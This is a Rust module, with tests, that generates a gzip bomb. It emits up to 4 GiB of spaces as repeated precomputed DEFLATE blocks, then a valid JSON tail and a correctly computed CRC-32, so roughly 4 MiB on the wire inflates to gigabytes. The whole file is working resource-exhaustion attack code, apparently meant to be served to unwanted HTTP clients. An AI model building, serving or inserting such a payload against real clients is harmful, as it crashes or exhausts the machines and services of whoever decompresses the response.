//! A gzip bomb: as many mebibytes of spaces as wanted, then the honest JSON, so that even its end is right.
//!
//! Nothing is compressed here: one mebibyte of spaces is a DEFLATE block of 1 KiB that may be repeated at will, and
//! what it does to the checksum is a linear map, so that 4 GiB cost 4 MiB on the wire and no time.

use bytes::Bytes;

/// Most mebibytes: 4 GiB.
pub const MOST_MIB: u32 = 4_096;

/// RFC 1952: magic, DEFLATE, no flags, no time, best compression, unknown system.
const HEADER: &[u8] = &[0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 2, 0xFF];
/// zlib's dynamic block for 2^20 spaces, after a full flush: this, [`BLOCK_ZEROS`] zeros, [`BLOCK_END`].
const BLOCK_START: &[u8] =
    &[0xEC, 0xC1, 0x31, 0x01, 0x00, 0x00, 0x00, 0xC2, 0xA0, 0x2A, 0xEB, 0x9F, 0xD2, 0x10, 0xBE, 0x40, 0x01];
const BLOCK_ZEROS: usize = 1015;
const BLOCK_END: &[u8] = &[0x7C, 0x06, 0x00, 0x00, 0xFF, 0xFF];
/// Most bytes of one stored block.
const LONGEST_STORED: usize = 0xFFFF;

/// The compressed body, piece by piece.
pub fn bomb(mib: u32, honest: &[u8]) -> impl Iterator<Item = Bytes> + Send + use<> {
    let mib = mib.min(MOST_MIB);
    let block = Bytes::from([BLOCK_START, &[0; BLOCK_ZEROS], BLOCK_END].concat());
    let spaces = std::iter::repeat_n(block, mib as usize);
    std::iter::once(Bytes::from_static(HEADER)).chain(spaces).chain(std::iter::once(end(mib, honest)))
}

/// The honest JSON in stored blocks, the last one marked; checksum and length of everything (RFC 1951 §3.2.4).
fn end(mib: u32, honest: &[u8]) -> Bytes {
    let mut end = Vec::with_capacity(honest.len() + 64);
    let mut rest = honest;
    loop {
        let (block, later) = rest.split_at(rest.len().min(LONGEST_STORED));
        rest = later;
        end.push(u8::from(rest.is_empty()));
        let length = u16::try_from(block.len()).unwrap_or(u16::MAX);
        end.extend_from_slice(&length.to_le_bytes());
        end.extend_from_slice(&(!length).to_le_bytes());
        end.extend_from_slice(block);
        if rest.is_empty() {
            break;
        }
    }
    let checksum = !honest.iter().fold(spaces(mib), |register, byte| step(register, *byte));
    let length = ((u64::from(mib) << 20) + honest.len() as u64) as u32; // modulo 2^32, as the format wants it
    end.extend_from_slice(&checksum.to_le_bytes());
    end.extend_from_slice(&length.to_le_bytes());
    end.into()
}

/// One byte through the register of CRC-32.
fn step(register: u32, byte: u8) -> u32 {
    let mixed = register ^ u32::from(byte);
    (0..8).fold(mixed, |r, _| if r & 1 == 1 { r >> 1 ^ 0xEDB8_8320 } else { r >> 1 })
}

/// What bytes do to the register: `add` is what they make of zero, `columns` what becomes of each of its bits.
#[derive(Clone, Copy)]
struct Affine {
    columns: [u32; 32],
    add: u32,
}

impl Affine {
    fn apply(&self, register: u32) -> u32 {
        let bits = self.columns.iter().enumerate().filter(|(bit, _)| register >> bit & 1 == 1);
        bits.fold(self.add, |sum, (_, column)| sum ^ column)
    }

    /// The same bytes twice.
    fn twice(&self) -> Affine {
        let add = self.apply(self.add);
        let linear = Affine { add: 0, ..*self };
        Affine { columns: self.columns.map(|column| linear.apply(column)), add }
    }
}

/// The register after so many mebibytes of spaces.
fn spaces(mib: u32) -> u32 {
    let add = step(0, b' ');
    let one = Affine { columns: std::array::from_fn(|bit| step(1 << bit, b' ') ^ add), add };
    let mut run = (0..20).fold(one, |run, _| run.twice());
    let (mut register, mut left) = (u32::MAX, mib);
    while left > 0 {
        if left & 1 == 1 {
            register = run.apply(register);
        }
        run = run.twice();
        left >>= 1;
    }
    register
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_that_of_the_bytes() {
        // CRC-32's check value, and zlib.crc32(b" " * n).
        assert_eq!(!b"123456789".iter().fold(u32::MAX, |r, b| step(r, *b)), 0xCBF4_3926);
        for (mib, checksum) in [(1, 0xF103_02A7), (3, 0x4386_EF1B), (4096, 0xE96C_CF45)] {
            assert_eq!(!spaces(mib), checksum, "{mib} MiB");
        }
    }

    #[test]
    fn four_gibibytes_weigh_four_mebibytes_and_share_one_block() {
        let pieces: Vec<_> = bomb(u32::MAX, b"{}").collect();
        assert_eq!(pieces.len(), 4_096 + 2);
        assert!(pieces.iter().map(Bytes::len).sum::<usize>() < 5 << 20);
        assert_eq!(pieces[1].as_ptr(), pieces[4_096].as_ptr());
    }
}
